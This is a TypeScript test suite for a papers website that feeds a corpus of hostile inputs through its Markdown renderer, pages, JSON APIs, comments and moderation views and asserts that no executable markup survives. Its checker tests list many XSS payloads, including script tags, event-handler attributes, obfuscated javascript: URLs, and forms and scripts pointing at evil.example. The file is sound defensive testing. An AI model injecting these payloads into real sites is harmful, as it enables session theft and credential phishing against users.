/**
 * The XSS suite: every hostile input of test/fixtures/hostile-inputs.ts through every place user
 * text appears, with test/helpers/xss.ts as the judge. Today: the comment Markdown renderer, and
 * the existing pages and APIs with the hostile text as a paper's title, abstract, authors,
 * comment, journal ref, code/project links, and a daily entry's submitter and organization.
 *
 * Adding a surface (comments, collections, mails, feeds): add a `describe` below that loops over
 * HOSTILE_INPUTS, renders the input there, and calls assertNoExecutableMarkup (fragments) or
 * assertNoExecutableMarkup(html, { page: true }) plus assertSameMarkup(hostile, benignTwin) (pages).
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Hono } from 'hono';
import MarkdownIt from 'markdown-it';
import type { Connection } from '../src/db/connect.ts';
import { addAnnouncements } from '../src/store/announcements.ts';
import { upsertEntries } from '../src/store/entries.ts';
import { type PaperInput, upsertPapers } from '../src/store/papers.ts';
import { isAllowedLinkUrl, markdownToText, renderMarkdown, USER_LINK_REL, validateCommentBody } from '../src/text/markdown.ts';
import { addDays } from '../src/time.ts';
import { HOSTILE_INPUTS } from './fixtures/hostile-inputs.ts';
import { freshApp, TEST_DIALECT } from './helpers/db.ts';
import { tokenizeHtml } from './helpers/html-tokens.ts';
import { assertNoExecutableMarkup, assertSameMarkup, benignTwin, findExecutableMarkup } from './helpers/xss.ts';
import { apiTokenFor, signedInClient } from './helpers/browser-session.ts';
import { fileURLToPath } from 'node:url';
import { readListings } from './helpers/corpus.ts';

describe('the hostile corpus', () => {
  it('has at least 60 inputs with unique names', () => {
    assert.ok(HOSTILE_INPUTS.length >= 60, `${HOSTILE_INPUTS.length} inputs`);
    assert.equal(new Set(HOSTILE_INPUTS.map((h) => h.name)).size, HOSTILE_INPUTS.length);
  });
});

describe('the checker', () => {
  // Each must be caught: if the checker misses one, every "no executable markup" above it is void.
  const bad: string[] = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<p>ok</p><script/>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src="x"/onerror="alert(1)">',
    '<img src=x =onerror=alert(1) onload=y>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="a.png 1x, javascript:alert(1) 2x">',
    '<form action="https://evil.example"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="https://example.org"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<svg><circle r=1 /></svg>',
    '<math><mi>x</mi></math>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>*{}</style>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background:url(\\6a avascript:alert(1))">x</div>',
    '<div style="background:url(jav/**/ascript:alert(1))">x</div>',
    '<x xlink:href="javascript:alert(1)">',
    '<!--><script>alert(1)</script>-->',
    '<!-- x --!><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<title></title><script>alert(1)</script>',
    '<textarea></textarea ><img src=x onerror=alert(1)>',
    '<p title="a" onclick=alert(1)>',
    '<details open ontoggle=alert(1)>',
  ];
  for (const html of bad) {
    it(`catches ${JSON.stringify(html).slice(0, 70)}`, () => {
      assert.ok(findExecutableMarkup(html).length > 0, 'not caught');
      assert.throws(() => assertNoExecutableMarkup(html));
    });
  }

  // And none of these may be flagged: text that only looks like markup, and safe links.
  const good: string[] = [
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '<p>javascript:alert(1) onerror=alert(1)</p>',
    '<a href="https://example.org/?q=javascript:x" rel="nofollow ugc noopener">x</a>',
    '<a href="/papers/2501.12948">x</a><a href="mailto:a@b.org">m</a>',
    '<!-- <script>alert(1)</script> -->',
    '<title>&lt;script&gt;</title><textarea><script>alert(1)</script></textarea>',
    '<p title="<script>alert(1)</script>">x</p>',
    '<p data-x="javascript:alert(1)" class="onclick">x</p>',
    '<code>&lt;img src=x onerror=alert(1)&gt;</code>',
    '<img src="x',
  ];
  for (const html of good) {
    it(`passes ${JSON.stringify(html).slice(0, 70)}`, () => {
      assert.deepEqual(findExecutableMarkup(html), []);
    });
  }

  it('tokenizes attributes the way browsers do', () => {
    assert.deepEqual(tokenizeHtml('<IMG/SRC=x/ONERROR=y title="a&amp;b&colon;" alt=\'q\' checked>'), [
      {
        type: 'start',
        name: 'img',
        attrs: [
          { name: 'src', value: 'x/ONERROR=y' },
          { name: 'title', value: 'a&b:' },
          { name: 'alt', value: 'q' },
          { name: 'checked', value: '' },
        ],
        selfClosing: false,
        offset: 0,
      },
    ]);
    // `&not` without a semicolon before `=` stays as written in an attribute (the spec's legacy rule).
    const [a] = tokenizeHtml('<a href="?x=1&notify=2">');
    assert.deepEqual(a?.type === 'start' && a.attrs, [{ name: 'href', value: '?x=1&notify=2' }]);
  });

  it('assertSameMarkup sees an added element or attribute, and ignores text and attribute values', () => {
    const page = (title: string, href: string) => `<html><body><h1>${title}</h1><a href="${href}">x</a></body></html>`;
    assertSameMarkup(page('&lt;b&gt;bold&lt;/b&gt;', 'https://a.example'), page('xxxxxxxxxxxxxxx', '/b'));
    assert.throws(() => assertSameMarkup(page('<b>bold</b>', '/a'), page('xxxx', '/a')), /changed the page's markup/);
    assert.throws(() => assertSameMarkup(page('x', '/a" title="y'), page('x', '/a')), /changed the page's markup/);
    assert.equal(benignTwin('<a b>\n c'), 'xx xx\n x');
  });

  it('allows our own layout in page mode, and only that', () => {
    const layout =
      '<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="data:image/svg+xml,<svg></svg>">' +
      '<link rel="stylesheet" href="/assets/style.css"><script src="/assets/app.0123.js"></script></head>' +
      '<body><form action="/search" method="get"><input name="q"></form></body></html>';
    assert.deepEqual(findExecutableMarkup(layout, { page: true }), []);
    assert.ok(findExecutableMarkup(layout).length >= 4, 'strict mode flags meta, link, script and form');
    for (const extra of [
      '<script>alert(1)</script>',
      '<script src="https://evil.example/x.js"></script>',
      '<script src="/assets/app.js">alert(1)</script>',
      '<form action="https://evil.example/"></form>',
      '<form action="//evil.example/"></form>',
      '<meta http-equiv="refresh" content="0">',
      '<link rel="preload" href="x">',
      '<link rel="stylesheet" href="data:text/css,x">',
      '<base href="/">',
    ]) {
      assert.ok(findExecutableMarkup(layout + extra, { page: true }).length > 0, extra);
    }
  });
});

describe('renderMarkdown on the hostile corpus', () => {
  for (const h of HOSTILE_INPUTS) {
    it(h.name, () => {
      const html = renderMarkdown(h.input);
      assertNoExecutableMarkup(html, { label: h.name });
      const tokens = tokenizeHtml(html);
      for (const t of tokens) {
        if (t.type !== 'start') continue;
        // Only the elements markdown-it makes from Markdown; never <img> (tracking pixels) or raw HTML.
        assert.ok(ALLOWED_MARKDOWN_ELEMENTS.has(t.name), `${h.name}: unexpected <${t.name}>`);
        if (t.name === 'a') {
          const attrs = Object.fromEntries(t.attrs.map((a) => [a.name, a.value]));
          assert.equal(attrs.rel, USER_LINK_REL, `${h.name}: rel`);
          assert.equal(attrs.target, undefined, `${h.name}: target`);
          assert.ok(attrs.href === undefined || isAllowedLinkUrl(attrs.href), `${h.name}: href ${attrs.href}`);
        }
        for (const a of t.attrs) assert.ok(['href', 'rel', 'class', 'title', 'start', 'style'].includes(a.name), `${h.name}: attribute ${a.name}`);
        const style = t.attrs.find((a) => a.name === 'style')?.value;
        if (style !== undefined) assert.match(style, /^text-align:(left|right|center)$/, `${h.name}: style`);
      }
      // The plain-text rendering never fails and never holds a raw NUL.
      const text = markdownToText(h.input, 300);
      assert.ok([...text].length <= 300);
      assert.doesNotMatch(text, /\0/);
      const check = validateCommentBody(h.input);
      assert.ok(check.ok || /^The comment is /.test(check.error), `${h.name}: ${JSON.stringify(check)}`);
    });
  }

  it('renders the pathological inputs in bounded time', () => {
    // A guard against catastrophic backtracking, not a benchmark: each takes a few ms today.
    for (const h of HOSTILE_INPUTS) {
      const t0 = performance.now();
      renderMarkdown(h.input);
      const ms = performance.now() - t0;
      assert.ok(ms < 2000, `${h.name}: ${Math.round(ms)} ms`);
    }
    const t0 = performance.now();
    renderMarkdown(`${'> '.repeat(5000)}${'['.repeat(50_000)}${'*a'.repeat(50_000)}`);
    assert.ok(performance.now() - t0 < 5000, 'a 200 kB pathological input');
  });
});

const ALLOWED_MARKDOWN_ELEMENTS = new Set([
  'p', 'a', 'strong', 'em', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'hr', 'br',
  'table', 'thead', 'tbody', 'tr', 'th', 'td',
]);

// ---------------------------------------------------------------------------------------------
// Existing pages and APIs, with the hostile text in every user- or source-controlled field.

/** PostgreSQL text cannot hold NUL; arXiv text never has one, so those inputs are SQLite-only here. */
const PAGE_INPUTS = HOSTILE_INPUTS.filter((h) => TEST_DIALECT === 'sqlite' || !h.input.includes('\0'));

interface Seeded {
  name: string;
  input: string;
  hostileId: string;
  twinId: string;
  hostileDay: string;
  twinDay: string;
}

const FIRST_DAY = '2024-01-01';
const ANNOUNCED = '2023-12-01';

const realPapers: PaperInput[] = readListings(fileURLToPath(new URL('../testdata/arxiv-listings-sample1000.jsonl', import.meta.url)));

/**
 * Searched fields are capped: arXiv caps abstracts at 1,920 characters, and a 20,000-character
 * abstract full of matches makes every search snippet take ~0.3 s (reported; see search/highlight.ts).
 */
const SEARCHED_MAX = 5000;

/** A real paper with `text` in every field people or sources write (links as an importer would store them). */
function withText(base: PaperInput, text: string, links: string): PaperInput {
  const searched = text.slice(0, SEARCHED_MAX);
  return {
    ...base,
    title: searched,
    abstract: searched,
    authors: [searched, base.authors[0] ?? 'A. Author'],
    comment: text,
    journalRef: text,
    license: links,
    codeUrl: links,
    projectUrl: links,
  };
}

/** Where each hostile input is seeded: a hostile paper and its benign twin, each featured on its own day. */
const SEEDED: Seeded[] = PAGE_INPUTS.map((h, i) => ({
  name: h.name,
  input: h.input,
  hostileId: realPapers[2 + 2 * i]!.id,
  twinId: realPapers[3 + 2 * i]!.id,
  hostileDay: addDays(FIRST_DAY, 2 * i),
  twinDay: addDays(FIRST_DAY, 2 * i + 1),
}));

describe('existing pages and APIs with hostile text', () => {
  let app: Hono;
  let conn: Connection;

  before(async () => {
    const made = await freshApp({ baseUrl: 'https://papers.example.org' });
    app = made.app;
    conn = made.conn;
    assert.ok(realPapers.length >= SEEDED.length * 2 + 2, 'enough real papers to carry the corpus');
    // A benign entry before and after, so every hostile and twin day has the same previous/next links.
    const [first, last] = [realPapers[0]!, realPapers[1]!];
    const papers: PaperInput[] = [first, last];
    const entries: Parameters<typeof upsertEntries>[1] = [
      { paperId: first.id, feedDate: addDays(FIRST_DAY, -1), submittedAt: `${FIRST_DAY}T00:00:00Z`, upvotes: 1 },
      { paperId: last.id, feedDate: addDays(FIRST_DAY, 2 * SEEDED.length), submittedAt: `${FIRST_DAY}T00:00:00Z`, upvotes: 1 },
    ];
    const entry = (paperId: string, feedDate: string, text: string) => ({
      paperId,
      feedDate,
      submittedAt: `${feedDate}T08:00:00Z`,
      upvotes: 3,
      submitterName: text,
      submitterHandle: 'handle',
      organization: text,
    });
    SEEDED.forEach((s, i) => {
      const base = realPapers[2 + 2 * i]!;
      // The twin is the same paper under another id: only the text differs between the two pages.
      papers.push(withText(base, s.input, s.input), withText({ ...base, id: s.twinId }, benignTwin(s.input), s.input));
      entries.push(entry(s.hostileId, s.hostileDay, s.input), entry(s.twinId, s.twinDay, benignTwin(s.input)));
    });
    await upsertPapers(conn.db, papers);
    await upsertEntries(conn.db, entries);
    await addAnnouncements(conn.db, SEEDED.map((s) => ({ paperId: s.hostileId, date: ANNOUNCED, kind: 'new' as const, category: 'cs.CL' })));
  });
  after(() => conn?.close());

  async function page(path: string, label: string): Promise<string> {
    const res = await app.request(path);
    assert.ok(res.status < 500, `${label}: ${path} answered ${res.status}`);
    assert.match(res.headers.get('content-type') ?? '', /^text\/html/, `${label}: ${path}`);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    const html = await res.text();
    assertNoExecutableMarkup(html, { page: true, label: `${label} on ${path}` });
    return html;
  }

  describe('stored as written (lone surrogates as U+FFFD, NUL dropped), or the page tests would prove nothing', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        const res = await app.request(`/api/papers/${s.hostileId}`);
        assert.equal(res.status, 200);
        const body = (await res.json()) as { title: string };
        // upsertPapers also drops NUL (PostgreSQL text cannot hold it).
        assert.ok(body.title === wellFormed(s.input.slice(0, SEARCHED_MAX)).replaceAll('\0', ''), 'title differs from the input');
      });
    }
  });

  describe('paper page: no executable markup, the same elements as with harmless text', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        const hostile = await page(`/papers/${s.hostileId}`, s.name);
        const twin = await page(`/papers/${s.twinId}`, `${s.name} (twin)`);
        assertSameMarkup(hostile, twin, `/papers/${s.hostileId}`);
      });
    }
  });

  describe('daily page (submitter, organization): no executable markup, the same elements as with harmless text', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        const hostile = await page(`/papers/date/${s.hostileDay}`, s.name);
        const twin = await page(`/papers/date/${s.twinDay}`, `${s.name} (twin)`);
        assertSameMarkup(hostile, twin, `/papers/date/${s.hostileDay}`);
      });
    }
  });

  it('lists holding many hostile entries: front page, weeks, months, New on arXiv', async () => {
    await page('/', 'front page');
    const months = new Set(SEEDED.map((s) => s.hostileDay.slice(0, 7)));
    for (const m of months) {
      for (const n of [1, 2]) await page(`/papers/month/${m}?page=${n}`, `month ${m}`);
    }
    await page('/papers/week/2024-W02', 'week');
    for (let n = 1; n <= Math.ceil(SEEDED.length / 50) + 1; n++) await page(`/new/${ANNOUNCED}?page=${n}`, 'new on arXiv');
  });

  describe('search: the hostile text as the query', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        await page(`/search?q=${encodeURIComponent(wellFormed(s.input))}`, s.name);
        await page(`/search?q=${encodeURIComponent(wellFormed(s.input))}&sort=date`, s.name);
      });
    }
  });

  it('search: hostile titles, authors and snippets in the results, highlighted', async () => {
    for (const q of ['script', 'alert', 'onerror', 'javascript', 'img', 'svg', '"alert(1)"', 'word']) await page(`/search?q=${encodeURIComponent(q)}`, `search ${q}`);
  });

  describe('error pages that echo the address', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        const seg = encodeURIComponent(wellFormed(s.input.slice(0, 300)));
        for (const path of [`/papers/${seg}`, `/papers/date/${seg}`, `/new/${seg}`, `/new?category=${seg}`, `/search?q=x&from=${seg}`]) {
          await page(path, s.name);
        }
      });
    }
  });

  describe('HF JSON API: JSON with nosniff, never HTML; links only http(s)', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        for (const path of [`/api/papers/${s.hostileId}`, `/api/daily_papers?date=${s.hostileDay}`, `/api/papers/search?q=${encodeURIComponent(wellFormed(s.input.slice(0, 200)))}`]) {
          const res = await app.request(path);
          assert.ok(res.status < 500, `${path} answered ${res.status}`);
          assert.match(res.headers.get('content-type') ?? '', /^application\/json/, path);
          assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
          JSON.parse(await res.text());
        }
        const [item] = (await (await app.request(`/api/daily_papers?date=${s.hostileDay}`)).json()) as Array<{
          submittedBy: { fullname: string } | null;
          paper: { githubRepo?: string; projectPage?: string };
        }>;
        assert.ok(item);
        // Entries are stored as given: SQLite turns a lone surrogate into three U+FFFD, PostgreSQL into one.
        assert.equal(item.submittedBy?.fullname.replace(/\ufffd+/g, '\ufffd'), wellFormed(s.input).replace(/\ufffd+/g, '\ufffd'));
        // Clients put these in an href: stored links that are not http(s) must not reach them.
        for (const link of [item.paper.githubRepo, item.paper.projectPage]) assert.ok(link === undefined || /^https?:\/\//.test(link), `link ${link}`);
      });
    }
  });

  describe('/papers/{id}.md: text/markdown, and safe when rendered by us or by a typical Markdown client', () => {
    const client = new MarkdownIt({ html: true, linkify: true });
    for (const s of SEEDED) {
      it(s.name, async () => {
        const res = await app.request(`/papers/${s.hostileId}.md`);
        assert.equal(res.status, 200);
        assert.match(res.headers.get('content-type') ?? '', /^text\/markdown; charset=utf-8$/);
        assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
        const text = await res.text();
        assertNoExecutableMarkup(renderMarkdown(text), { label: '.md through renderMarkdown' });
        // A client with raw HTML on (GitHub-like viewers, tools): title and abstract are escaped for it.
        assertNoExecutableMarkup(client.render(text), { dataImages: true, label: '.md through markdown-it html:true' });
      });
    }
  });

  // Author pages, organization pages, BibTeX, claims (src/web/routes/authors.tsx, orgs.tsx, links.tsx,
  // claims.tsx): the hostile text is the first author's name and the entry's organization.
  describe('author pages: no executable markup, the same elements as with harmless text', () => {
    for (const s of SEEDED) {
      it(s.name, async () => {
        const name = (t: string) => encodeURIComponent(wellFormed(t.slice(0, SEARCHED_MAX)));
        const hostile = await page(`/authors/${name(s.input)}`, s.name);
        const twin = await page(`/authors/${name(benignTwin(s.input))}`, `${s.name} (twin)`);
        // Inputs of equal length share a twin name ("xxx…"), whose page then lists several papers.
        const sharing = SEEDED.filter((o) => benignTwin(o.input) === benignTwin(s.input) || o.input === s.input).length;
        if (sharing === 1) assertSameMarkup(hostile, twin, `/authors/ for ${s.name}`);
      });
    }
  });

  it('organization pages and the organization index hold no executable markup', async () => {
    await page('/orgs', 'organization index');
    const { organizationSlug } = await import('../src/store/orgs.ts');
    const slugs = new Set(SEEDED.map((s) => organizationSlug(wellFormed(s.input))).filter((x) => x !== ''));
    assert.ok(slugs.size > 10, `${slugs.size} hostile organizations have pages`);
    for (const slug of slugs) await page(`/orgs/${slug}`, `organization ${slug}`);
    for (const s of SEEDED) {
      const path = `/orgs/${encodeURIComponent(wellFormed(s.input.slice(0, 300)))}`;
      const res = await app.request(path);
      if (res.status === 301) assert.match(res.headers.get('location') ?? '', /^\/orgs\/[a-z0-9-]+$/, s.name);
      else await page(path, `${s.name} as an organization address`);
    }
  });

  it('BibTeX answers are text/plain with nosniff, one @misc entry each', async () => {
    for (const s of SEEDED) {
      const res = await app.request(`/papers/${s.hostileId}/bibtex`);
      assert.equal(res.status, 200, s.name);
      assert.match(res.headers.get('content-type') ?? '', /^text\/plain; charset=utf-8/i, s.name);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      const text = await res.text();
      assert.equal(text.match(/^@/gm)?.length, 1, `${s.name}: one entry`);
      assert.ok(text.includes(`  eprint = {${s.hostileId}},\n`), s.name);
    }
  });

  it('claim forms, pending and approved claims, and the moderators\' queue with hostile author names', async () => {
    const { signedInClient: signIn } = await import('./helpers/browser-session.ts');
    const { listClaims } = await import('../src/store/claims.ts');
    const claimant = await signIn(app, conn.db, { email: 'claimant@example.org', handle: 'claimant', displayName: '<script>alert(1)</script>' });
    const reader = await signIn(app, conn.db, { email: 'reader@example.org', handle: 'reader' });
    const mod = await signIn(app, conn.db, { email: 'xss-mod@example.org', handle: 'xssmod', role: 'moderator' });
    for (const s of SEEDED) {
      const html = await (await reader.get(`/papers/${s.hostileId}`)).text();
      assertNoExecutableMarkup(html, { page: true, label: `${s.name}: claim form` });
      const stored = (await conn.db.selectFrom('papers').select('authors').where('id', '=', s.hostileId).executeTakeFirstOrThrow()).authors;
      const res = await claimant.post(`/papers/${s.hostileId}/claim`, { author: (JSON.parse(stored) as string[])[0]! }, { csrfFrom: `/papers/${s.hostileId}` });
      assert.equal(res.status, 303, `${s.name}: claimed`);
      assertNoExecutableMarkup(await (await claimant.get(`/papers/${s.hostileId}`)).text(), { page: true, label: `${s.name}: pending claim` });
    }
    const queue = await (await mod.get('/moderation/claims')).text();
    assertNoExecutableMarkup(queue, { page: true, label: 'moderation queue' });
    for (const claim of await listClaims(conn.db, { status: 'pending', limit: 500 })) {
      assert.equal((await mod.post(`/moderation/claims/${claim.id}/approve`, {}, { csrfFrom: '/moderation/claims' })).status, 303);
    }
    for (const s of SEEDED.slice(0, 20)) {
      assertNoExecutableMarkup(await (await app.request(`/papers/${s.hostileId}`)).text(), { page: true, label: `${s.name}: claimed badge` });
    }
  });
});

/** The string with lone surrogates replaced by U+FFFD (what encodeURIComponent and UTF-8 need). */
function wellFormed(s: string): string {
  return s.replace(/[\ud800-\udfff]/g, (ch, i: number) => (isPaired(s, i) ? ch : '\ufffd'));
}

function isPaired(s: string, i: number): boolean {
  const c = s.charCodeAt(i);
  if (c >= 0xd800 && c <= 0xdbff) {
    const d = s.charCodeAt(i + 1);
    return d >= 0xdc00 && d <= 0xdfff;
  }
  const b = s.charCodeAt(i - 1);
  return b >= 0xd800 && b <= 0xdbff;
}

// ---------------------------------------------------------------------------------------------
// Comments (src/web/routes/comments.tsx, moderation.tsx, src/web/api/v1-comments.ts): every hostile
// input as a comment body, posted through the API, then seen on the paper page by an anonymous
// reader, by its author (edit forms hold the raw Markdown) and by a moderator (hidden comments
// too), on /moderation, on the history page, in the API `html`, and echoed on the refused-draft page.

describe('comments with hostile bodies', () => {
  let app: Hono;
  let conn: Connection;
  let author: Awaited<ReturnType<typeof signedInClient>>;
  let moderator: Awaited<ReturnType<typeof signedInClient>>;
  const paperId = realPapers[0]!.id;
  /** Comment id per input name; absent when the body was refused (too long, blank). */
  const posted = new Map<string, number>();
  let deletedParent = 0;

  before(async () => {
    const made = await freshApp({ rateLimits: { signin: null, signin_ip: null, submit: null, vote: null, comment: null } });
    app = made.app;
    conn = made.conn;
    await upsertPapers(conn.db, [realPapers[0]!]);
    author = await signedInClient(app, conn.db, { email: 'hostile@example.org', handle: 'hostile', displayName: '"><script>alert(1)</script>' });
    moderator = await signedInClient(app, conn.db, { email: 'mod@example.org', handle: 'moderator1', role: 'moderator' });
    const token = await apiTokenFor(conn.db, author.user.id);
    const reporter = await signedInClient(app, conn.db, { email: 'reporter@example.org', handle: 'reporter' });
    let first: number | undefined;
    for (const h of HOSTILE_INPUTS) {
      const res = await app.request(`/api/v1/papers/${paperId}/comments`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ body: h.input, parentId: first ?? null }),
      });
      const check = validateCommentBody(h.input);
      assert.equal(res.status, check.ok ? 201 : 400, `${h.name}: posting answered ${res.status}`);
      if (!check.ok) continue;
      const { comment } = (await res.json()) as { comment: { id: number; markdown: string } };
      assert.equal(comment.markdown, check.body, `${h.name}: stored as validated`);
      posted.set(h.name, comment.id);
      first ??= comment.id;
      // Reported (for /moderation) and edited once (so the history page shows the hostile body as an earlier version).
      await reporter.post(`/comments/${comment.id}/report`, { reason: h.input.slice(0, 900) || 'x' }, { csrfFrom: `/papers/${paperId}` });
      await author.post(`/comments/${comment.id}/edit`, { body: `${h.input}\n\nedited` }, { csrfFrom: `/papers/${paperId}` });
    }
    assert.ok(posted.size >= HOSTILE_INPUTS.length - 5, `${posted.size} of ${HOSTILE_INPUTS.length} inputs were accepted as comments`);
    // Every other comment hidden, so moderators see hidden hostile bodies with their (hostile) note.
    let k = 0;
    for (const [name, id] of posted) {
      if (k++ % 2 === 1) await moderator.post(`/moderation/comments/${id}/hide`, { note: HOSTILE_INPUTS.find((h) => h.name === name)!.input.slice(0, 400) }, { csrfFrom: '/moderation' });
    }
    const parent = await author.post('/comments', { paperId, body: 'to be deleted' }, { csrfFrom: `/papers/${paperId}` });
    deletedParent = Number(/#comment-(\d+)$/.exec(parent.headers.get('location') ?? '')![1]);
    await author.post(`/comments/${deletedParent}/delete`, {}, { csrfFrom: `/papers/${paperId}` });
  });
  after(() => conn?.close());

  it('the API html of every comment (as the moderator, who sees hidden ones) has no executable markup', async () => {
    const token = await apiTokenFor(conn.db, moderator.user.id);
    const res = await app.request(`/api/v1/papers/${paperId}/comments`, { headers: { authorization: `Bearer ${token}` } });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
    type C = { id: number; html: string; replies: C[] };
    const all: C[] = [];
    const walk = (list: C[]) => list.forEach((c) => (all.push(c), walk(c.replies)));
    walk(((await res.json()) as { comments: C[] }).comments);
    for (const [name, id] of posted) {
      const c = all.find((x) => x.id === id);
      assert.ok(c && c.html !== '', `${name}: in the API with its html`);
      assertNoExecutableMarkup(c.html, { label: `${name} (API html)` });
    }
  });

  for (const who of ['an anonymous reader', 'the author', 'a moderator'] as const) {
    it(`the paper page as ${who} has no executable markup`, async () => {
      const res = who === 'an anonymous reader' ? await app.request(`/papers/${paperId}`) : await (who === 'the author' ? author : moderator).get(`/papers/${paperId}`);
      assert.equal(res.status, 200);
      const html = await res.text();
      assert.ok(html.includes(`id="comment-${[...posted.values()].at(-1)}"`), 'the comments are on the page');
      assertNoExecutableMarkup(html, { page: true, label: `paper page as ${who}` });
    });
  }

  it('/moderation (reports with hostile reasons, hidden comments with hostile notes) has no executable markup', async () => {
    const res = await moderator.get('/moderation');
    assert.equal(res.status, 200);
    assertNoExecutableMarkup(await res.text(), { page: true, label: '/moderation' });
  });

  describe('history page and refused draft', () => {
    for (const h of HOSTILE_INPUTS) {
      it(h.name, async () => {
        const id = posted.get(h.name);
        if (id !== undefined) {
          const res = await moderator.get(`/comments/${id}/history`);
          assert.equal(res.status, 200);
          assertNoExecutableMarkup(await res.text(), { page: true, label: `${h.name} (history)` });
        }
        // A reply to a deleted comment is refused, and the page echoes the draft back in a textarea.
        const refused = await author.post('/comments', { paperId, body: h.input, parentId: String(deletedParent) }, { csrfFrom: `/papers/${paperId}` });
        assert.equal(refused.status, 400, `${h.name}: ${refused.status}`);
        assertNoExecutableMarkup(await refused.text(), { page: true, label: `${h.name} (refused draft)` });
      });
    }
  });
});
